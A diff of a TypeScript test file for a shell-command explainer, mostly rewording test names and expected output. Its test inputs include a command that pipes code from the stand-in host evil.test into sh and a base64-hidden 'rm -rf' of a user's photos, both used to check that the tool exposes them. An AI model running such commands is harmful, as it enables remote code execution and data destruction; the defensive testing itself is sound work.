@@ -5,7 +5,7 @@ import { commandPartLines } from "./command-parts.ts";
 const page = { rich: false, columns: 80, paint: (_: unknown, text: string) => text };
 const parts = (command: string): string[] => commandPartLines(explainCommand(command, "/w"), page);
 
-test("[U24] a command is shown by its programs, files and hosts, and by what is hidden in it", () => {
+test("[U24] a command is shown with its programs, files, hosts and encoded parts", () => {
   const hidden = Buffer.from("rm -rf /home/ann/photos").toString("base64");
   expect(parts(`npm ci && curl -s https://evil.test/x | sh > /etc/motd`)).toEqual([
     "",
@@ -17,16 +17,16 @@ test("[U24] a command is shown by its programs, files and hosts, and by what is 
     "  contacts evil.test",
   ]);
   expect(parts(`echo ${hidden} | base64 -d | sh`).join("\n")).toContain(
-    "  hidden in another code; it says:\n    rm -rf /home/ann/photos",
+    "  encoded; it says:\n    rm -rf /home/ann/photos",
   );
 });
 
-test("[U24] one program that says all there is needs no parts; what shows only when it runs is said", () => {
+test("[U24] one simple program needs no explanation; parts only known at run time are marked", () => {
   expect(parts("npm test")).toEqual([]);
-  expect(parts('echo "$HOME"').join("\n")).toMatch(/some of it shows only when it runs/);
+  expect(parts('echo "$HOME"').join("\n")).toMatch(/parts of it are only known when it runs/);
 });
 
-test("[A64] [A17] words of a command are plain there too", () => {
+test("[A64] [A17] parts of a command are sanitised, too", () => {
   expect(parts("echo a\u202eb; printf 'x\u001b[2Jy'").join("\n")).toMatch(
     /a⟦U\+202E⟧b[\s\S]*x⟦U\+001B⟧\[2Jy/,
   );
